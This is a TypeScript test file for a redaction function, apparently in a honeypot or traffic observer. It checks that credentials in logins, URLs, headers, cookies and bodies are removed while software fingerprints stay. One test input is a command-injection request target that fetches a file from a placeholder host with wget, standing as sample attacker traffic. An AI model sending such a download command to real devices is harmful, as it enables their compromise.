import fc from "fast-check";
import { test } from "uvu";
import * as assert from "uvu/assert";
import type { Observation, Request } from "../../../src/event.js";
import { redact } from "../../../src/worker/consent/redact.js";

const NAMES = ["user", "login", "pass", "pwd", "token", "secret", "auth", "session", "key", "cookie"];
const bytes = (text: string) => Buffer.from(text, "latin1");
const SECRET = "hunter2";

function request(change: Partial<Record<"target" | "host" | "body", string>> & { headers?: [string, string][] }): Request {
  const { target = "/", host = "h", body = "", headers = [] } = change;
  return {
    kind: "request",
    method: bytes("GET"),
    target: bytes(target),
    version: bytes("HTTP/1.1"),
    host: bytes(host),
    userAgent: bytes("curl/8"),
    headers: headers.map(([name, value]) => ({ name: bytes(name), value: bytes(value) })),
    body: bytes(body),
    bodyLength: body.length,
  };
}

/** Everything an observation says, as one text. */
function said(value: unknown): string {
  if (value instanceof Uint8Array) return Buffer.from(value).toString("latin1");
  if (typeof value === "object" && value !== null) return Object.values(value).map(said).join("\n");
  return String(value);
}

test("of a login stay the mechanism and the attempt", () => {
  const login: Observation = {
    kind: "login",
    username: bytes(SECRET),
    password: bytes(SECRET),
    mechanism: "digest",
    attempt: 2,
    proof: [{ name: bytes("response"), value: bytes(SECRET) }],
  };
  assert.equal(redact(login, NAMES), { seen: { kind: "login", mechanism: "digest", attempt: 2 }, redacted: true });
  assert.equal(redact({ ...login, accepted: true }, NAMES).seen, {
    kind: "login",
    mechanism: "digest",
    attempt: 2,
    accepted: true,
  });
});

test("of messages only those go whole that the peer's software says of itself", () => {
  const message = (name: string): Observation => ({ kind: "message", name, data: bytes(SECRET), length: 7 });
  for (const name of [
    "options",
    "terminal-type",
    "window-size",
    "terminal-speed",
    "ja3",
    "ja4",
    "client-version",
    "kexinit",
    "hassh",
  ]) {
    assert.equal(redact(message(name), NAMES), { seen: message(name), redacted: false });
  }
  for (const name of ["server-name", "environment", "type-ahead", "envelope", "message", "subnegotiation"]) {
    assert.not.match(said(redact(message(name), NAMES)), new RegExp(SECRET), name);
  }
});

const HIDING_PLACES: [string, Request][] = [
  ["user information", request({ target: `http://user:${SECRET}@host/path` })],
  ["user information without a scheme", request({ target: `${SECRET}:x@host:443` })],
  ["a query field", request({ target: `/cgi?next=1&password=${SECRET}` })],
  ["a percent-encoded query field", request({ target: `/cgi?p%61ssword=${SECRET}` })],
  ["a field in capitals", request({ target: `/cgi;USERNAME=${SECRET}` })],
  ["the body", request({ body: `user=a&pass=${SECRET}` })],
  ["Authorization", request({ headers: [["Authorization", `Basic ${SECRET}`]] })],
  ["proxy-authorization", request({ headers: [["proxy-AUTHORIZATION", `Digest username="${SECRET}"`]] })],
  ["Cookie", request({ headers: [["Cookie", `sid=${SECRET}`]] })],
  ["an unknown header", request({ headers: [["X-Anything", SECRET]] })],
  ["the referrer's query", request({ headers: [["Referer", `http://h/?pass=${SECRET}`]] })],
  ["the host", request({ host: `${SECRET}@h`, headers: [["Host", `${SECRET}@h`]] })],
];

for (const [where, seen] of HIDING_PLACES) {
  test(`a secret in ${where} is removed`, () => {
    const result = redact(seen, NAMES);
    assert.ok(result.redacted);
    assert.not.ok(said(result.seen).includes(SECRET), said(result.seen));
  });
}

test("a request without credentials is kept as it is", () => {
  const seen = request({
    target: "/shell?cd+/tmp;wget+http://203.0.113.1/x",
    headers: [
      ["User-Agent", "x"],
      ["Accept", "*/*"],
    ],
  });
  assert.equal(redact(seen, NAMES), { seen, redacted: false });
});

test("the body's length, the path and the method stay", () => {
  const { seen } = redact(request({ target: "/login.cgi?user=a&lang=en", body: "abc" }), NAMES);
  assert.is(seen.kind === "request" && seen.bodyLength, 3);
  assert.is(said(seen.kind === "request" && seen.target), "/login.cgi?user=[redacted]&lang=en");
});

test("lines, environments and malformed input lose their data, not their length; what only software says stays", () => {
  const line: Observation = { kind: "command", line: bytes(SECRET), length: 7 };
  assert.equal(redact(line, NAMES).seen, { kind: "command", line: new Uint8Array(0), length: 7 });
  for (const seen of [
    { kind: "message", name: "environment", data: bytes(SECRET), length: 7 },
    { kind: "invalid", reason: "x", data: bytes(SECRET), length: 7 },
  ] as const) {
    assert.equal(redact(seen, NAMES), { seen: { ...seen, data: new Uint8Array(0) }, redacted: true });
  }
  const terminal: Observation = { kind: "message", name: "terminal-type", data: bytes("xterm"), length: 5 };
  assert.equal(redact(terminal, NAMES), { seen: terminal, redacted: false });
});

test("no value of a credential-like query field survives, whatever stands around it", () => {
  fc.assert(
    fc.property(fc.webPath(), fc.constantFrom(...NAMES), fc.webQueryParameters(), (path, name, query) => {
      const target = `${path}?${query}&x${name}y=${SECRET}&z=1`;
      const { seen } = redact(request({ target }), NAMES);
      assert.not.ok(said(seen).includes(SECRET));
    }),
  );
});

test.run();
